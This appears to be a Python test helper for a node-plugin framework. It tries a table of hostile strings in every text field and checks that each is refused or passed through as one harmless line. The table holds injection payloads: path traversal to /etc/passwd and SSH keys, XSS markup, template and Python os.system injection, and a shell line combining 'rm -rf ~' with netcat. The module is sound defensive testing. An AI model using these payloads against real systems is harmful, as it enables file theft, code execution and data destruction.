"""Hostile texts, and the check that they stay texts of their field.

In a plugin's tests::

    @pytest.mark.parametrize("node", NODES, ids=lambda node: node.id)
    def test_a_hostile_text_stays_a_text(node):
        check_texts(node)
"""

from __future__ import annotations

import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

from pydantic import BaseModel, ValidationError

from musubi_nodes.errors import CONTROLS, LONGEST, MusubiError, is_one_line, one_line
from musubi_nodes.families.fields import FieldSpec, Socket, fields_of
from musubi_nodes.families.node import Node
from musubi_nodes.families.script import ScriptNode
from musubi_nodes.runs.install import Install
from musubi_nodes.testing.contract import NEWEST, options_of, parser_of, runner_options
from musubi_nodes.testing.fill import build, default_value, filled, has_widgets, other_values, socket_classes

HOSTILE: Mapping[str, str] = {
    "option": "--config_file=/etc/passwd",
    "short option": "-x",
    "option behind a blank": " --output_dir=/tmp",
    "option in a prompt": "a cat --d 1 --i /etc/passwd",
    "option in a second line": "a cat\n--config_file=/etc/passwd",
    "list item that is an option": "a=1\n-x\n--y=1",
    "option behind a carriage return": "a cat\r--config_file=/etc/passwd",
    "arguments from a file": "@/etc/passwd",
    "folder above": "../../../../etc/passwd",
    "folder above, Windows": "..\\..\\..\\Windows\\win.ini",
    "folder above in the middle": "a/../../b",
    "absolute path": "/etc/passwd",
    "absolute path, Windows": "C:\\Windows\\win.ini",
    "path of a drive": "C:win.ini",
    "home": "~root/.ssh/id_rsa",
    "home of nobody": "~nobody-of-this-name/x",
    "share": "\\\\host\\share\\x.toml",
    "share with slashes": "//host/share/x.toml",
    "device": "\\\\.\\PhysicalDrive0",
    "device with its prefix": "\\\\?\\C:\\x.toml",
    "share in the kernel's spelling": "\\??\\UNC\\host\\share\\x.toml",
    "reserved name": "CON",
    "reserved name with an ending": "nul.txt",
    "name that ends in a dot": "cats.",
    "second stream of a file": "a.safetensors:b",
    "pattern": "x.**",
    "pattern of letters": "[a-z]*?",
    "very long name": "n" * 300,
    "address": "http://host/x?a=1",
    "address of a file": "file:///etc/passwd",
    "protocol of ffmpeg": "concat:/etc/passwd|/etc/hosts",
    "NUL": "a\0b",
    "terminal": "\x1b]0;title\x07\x1b[2J\x9b1m\x08",
    "writing turned round": "a\u202egnp.exe\u2066",
    "half a character": "a\ud800b",
    "separators of lines": "a\u2028--x\u2029--y\x85--z\x0b-v",
    "markup": "<img src=x onerror=alert(1)>",
    "markup of a script": "</textarea><script>alert(1)</script>",
    "markup of an attribute": '" onmouseover="alert(1)" \'',
    "markdown": "[x](javascript:alert(1)) ![x](http://host/x)",
    "template": "{{7*7}} ${7*7} {0.__class__} %(x)s %s%n",
    "shell": "$(touch x); rm -rf ~ & `id` | nc host 1 > x && y",
    "quotes": "' \" \\ '' \"\" \\\\",
    "variables": "%PATH% $HOME ${IFS} !x!",
    "Python": "__import__('os').system('x')",
    "Python as a value": "a=__import__('os').system('x')",
    "Python name": "os.system",
    "TOML": 'output_dir = "/etc"\nconfig_file = "/etc/passwd"',
    "JSON": '{"prompt": "a", "image": "/etc/passwd"}',
    "sections": "a;;;0:/etc/passwd",
    "picture of a prompt file": "I /etc/passwd",
    "blanks": " \t\u3000 ",
    "a megabyte": "a" * 1_000_000,
    "a megabyte of lines": "a=1\n" * 250_000,
    "a megabyte of brackets": "[" * 1_000_000,
}

TEXTS = ("string", "model", "input", "install", "family", "run", "choice")

Try = Callable[[str], Any]


def text_fields(model: type[BaseModel]) -> list[FieldSpec]:
    return [spec for spec in fields_of(model) if spec.kind in TEXTS]


def assert_clear(error: MusubiError) -> None:
    """Assert that the error has a fix, is short, and is safe to print."""
    text = str(error)
    assert error.what and error.fix, f"no word about what to do: {text[:500]}"
    assert len(text) <= 3 * (LONGEST + 10) + 600, f"{len(text)} characters: {text[:200]}"
    assert not CONTROLS.search(text), f"control characters: {text[:500]!r}"


def refused(attempt: Callable[[], Any]) -> bool:
    """Whether ``attempt`` raises one clear :class:`MusubiError`."""
    try:
        attempt()
    except MusubiError as error:
        assert_clear(error)
        return True
    return False


def check_texts(node: type[Node]) -> int:
    """Try each hostile text in each text field, also of sockets.

    It must be refused, or reach the script as one line in the field's own options. Returns the number of tries.
    """
    count = 0
    for name, make in _models(node):
        for spec in text_fields(_model(node, name)):
            attempt = _attempt(node, spec, partial(make, spec))
            for label, text in HOSTILE.items():
                count += 1
                try:
                    refused(lambda: attempt(text))  # noqa: B023 - it is called here
                except Exception as error:
                    raise AssertionError(f"{name or node.id}.{spec.name}, {label}: {error!r:.2000}") from error
    return count


def _models(node: type[Node]) -> Iterator[tuple[str, Callable[[FieldSpec, Any], Any]]]:
    yield "", lambda spec, value: node.parse({**_widgets(node), spec.name: value, **_sockets(node)})
    for name, kind in socket_classes(node.Inputs).items():
        if has_widgets(kind):
            yield name, partial(_with_socket, node, name, kind)


def _with_socket(node: type[Node], name: str, kind: type[Socket], spec: FieldSpec, value: object) -> BaseModel:
    return build(node.Inputs, default_value, **{name: _set(kind, spec, value)})


def _model(node: type[Node], socket: str) -> type[BaseModel]:
    return socket_classes(node.Inputs)[socket] if socket else node.Inputs


def _widgets(node: type[Node]) -> dict[str, Any]:
    specs = [spec for spec in node.fields() if spec.kind != "socket"]
    return {spec.name: spec.to_widget(default_value(spec)) for spec in specs}


def _sockets(node: type[Node]) -> dict[str, Socket]:
    sockets = socket_classes(node.Inputs)
    return {name: filled(kind) for name, kind in sockets.items() if node.Inputs.model_fields[name].is_required()}


def _set(kind: type[Socket], spec: FieldSpec, value: object) -> BaseModel:
    try:
        return build(kind, lambda each: spec.from_widget(value) if each.name == spec.name else default_value(each))
    except ValidationError:
        raise MusubiError("value-refused", f"{spec.name} is refused", fix="As its own node says.") from None


def _attempt(node: type[Node], spec: FieldSpec, make: Try) -> Try:
    if spec.kind == "model" and spec.name not in node.Inputs.model_fields:
        return lambda text: None  # the socket contains a resolved path
    if not issubclass(node, ScriptNode):
        return make
    before = _sent(node, make(spec.to_widget(default_value(spec))))
    own = {name for found in _harmless(node, spec, make) for name in _differing(before, found)}

    def compared(text: str) -> None:
        after = _sent(node, make(text))
        changed = _differing(before, after)
        assert changed <= own, f"it also sets {sorted(changed - own)}"
        for name in changed:
            for value in after[name] if isinstance(after[name], list) else [after[name]]:
                assert _squeezed(str(value)) in _squeezed(text), f"{name} became {value!r:.200}"

    return compared


def _harmless(node: type[ScriptNode], spec: FieldSpec, make: Try) -> Iterator[dict[str, Any]]:
    for value in (*other_values(spec), "another", "another text"):
        with suppress(MusubiError):
            yield _sent(node, make(spec.to_widget(value)))


def _sent(node: type[ScriptNode], inputs: object) -> dict[str, Any]:
    known = options_of(node.script)
    words = node().planned(inputs, known, NEWEST).argv(runner_options(node, known))
    read = vars(parser_of(node.script).parse_args(words))
    launcher = node().launcher(inputs, INSTALL, Path("/run"))
    assert all(map(is_one_line, [*words, *launcher])), "what the script is given, it may print: it must be one line"
    return read | {word.partition("=")[0]: word.partition("=")[2] for word in launcher}


INSTALL = Install("install", Path("/install"), Path(sys.executable))


def _differing(before: Mapping[str, object], after: Mapping[str, object]) -> set[str]:
    return {name for name in before.keys() | after.keys() if before.get(name) != after.get(name)}


def _squeezed(text: str) -> str:
    return "".join(one_line(text).split())
